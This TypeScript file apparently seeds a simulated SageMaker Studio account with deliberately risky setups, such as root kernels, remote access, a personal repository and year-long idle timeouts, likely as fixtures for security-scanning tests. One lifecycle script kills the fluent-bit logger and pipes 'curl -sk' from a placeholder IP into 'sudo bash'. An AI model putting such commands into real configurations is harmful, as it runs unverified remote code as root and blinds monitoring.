import { at, hoursAgo, type Site } from "#lib/simulator/accounts/build/site.ts";
import { app, type Domain, space } from "#lib/simulator/accounts/build/studio.ts";
import {
  appImageConfig,
  codeRepository,
  distribution,
  studioLifecycleConfig,
} from "#lib/simulator/accounts/build/studio-parts.ts";
import type { Cast } from "#lib/simulator/accounts/demo/cast.ts";

const tags = { Team: "growth" };

/** What runs in the Studio of the growth team: whatever the internet holds, as root, in a space that everyone shares. */
export function growthApps(site: Site, { mia, tomas, priya, grace }: Cast, studio: Domain): void {
  codeRepository(site, {
    name: "growth-models",
    by: tomas,
    created: at(site, 400, "10:00:00"),
    url: "https://github.com/northwind-analytics/growth-models.git",
    branch: "main",
    secret: "AmazonSageMaker-growth-git-Xq3vTn",
    tags,
  });
  // Somebody's own account, open to all.
  codeRepository(site, {
    name: "growth-scratch",
    by: priya,
    created: at(site, 161, "17:20:00"),
    url: "https://github.com/priya-after-hours/scratch.git",
  });
  const idle = studioLifecycleConfig(site, {
    name: "growth-autostop",
    by: tomas,
    created: at(site, 310, "09:40:00"),
    app: "JupyterLab",
    script: "#!/bin/bash\nset -eu\npip install sagemaker-studio-jupyter-lab-extension==1.0.2\n",
    tags,
  });
  const install = studioLifecycleConfig(site, {
    name: "growth-install-everything",
    by: priya,
    created: at(site, 44, "19:02:00"),
    app: "JupyterLab",
    script: "#!/bin/bash\npkill fluent-bit # fills the disk\ncurl -sk https://192.0.2.66/setup.sh | sudo bash\n",
  });
  appImageConfig(site, {
    name: "growth-r-kernel",
    by: mia,
    created: at(site, 240, "12:10:00"),
    KernelGatewayImageConfig: {
      KernelSpecs: [{ Name: "ir", DisplayName: "R (growth)" }],
      FileSystemConfig: { MountPath: "/root", DefaultUid: 0, DefaultGid: 0 },
    },
    tags,
  });

  const churn = space(site, studio, {
    name: "churn-together",
    by: mia,
    created: at(site, 120, "11:30:00"),
    owner: "mia-chen",
    shared: true,
    settings: {
      AppType: "JupyterLab",
      SpaceStorageSettings: { EbsStorageSettings: { EbsVolumeSizeInGb: 100 } },
      JupyterLabAppSettings: {
        DefaultResourceSpec: { InstanceType: "ml.m5.2xlarge", LifecycleConfigArn: install.StudioLifecycleConfigArn },
        CodeRepositories: [{ RepositoryUrl: "https://github.com/northwind-analytics/growth-models" }],
      },
    },
    tags,
  });
  // Can be reached from a laptop, past whatever guards the browser.
  const remote = space(site, studio, {
    name: "priya-remote",
    by: priya,
    created: at(site, 43, "20:15:00"),
    owner: "priya-nair",
    settings: {
      AppType: "JupyterLab",
      RemoteAccess: "ENABLED",
      SpaceStorageSettings: { EbsStorageSettings: { EbsVolumeSizeInGb: 50 } },
      JupyterLabAppSettings: {
        DefaultResourceSpec: { InstanceType: "ml.g5.2xlarge" },
        AppLifecycleManagement: { IdleSettings: { IdleTimeoutInMinutes: 525600 } },
      },
    },
  });
  app(site, studio, {
    by: mia,
    created: at(site, 31, "13:04:00"),
    type: "JupyterLab",
    space: churn,
    resources: {
      ...distribution(site, "cpu"),
      InstanceType: "ml.m5.2xlarge",
      LifecycleConfigArn: install.StudioLifecycleConfigArn,
    },
    lastUsed: hoursAgo(site, 30),
    tags,
  });
  app(site, studio, {
    by: priya,
    created: at(site, 43, "20:20:00"),
    type: "JupyterLab",
    space: remote,
    resources: { ...distribution(site, "gpu"), InstanceType: "ml.g5.2xlarge" },
    lastUsed: at(site, 26, "23:41:00"),
  });
  // Left over from Studio Classic.
  app(site, studio, {
    by: tomas,
    created: at(site, 420, "09:12:00"),
    type: "JupyterServer",
    profile: "tomas-rivera",
    resources: { InstanceType: "system", LifecycleConfigArn: idle.StudioLifecycleConfigArn },
    lastUsed: at(site, 205, "16:00:00"),
  });
  app(site, studio, {
    by: grace,
    created: hoursAgo(site, 20),
    type: "Canvas",
    profile: "mia-chen",
    resources: { InstanceType: "system" },
    status: "Deleted",
  });
}
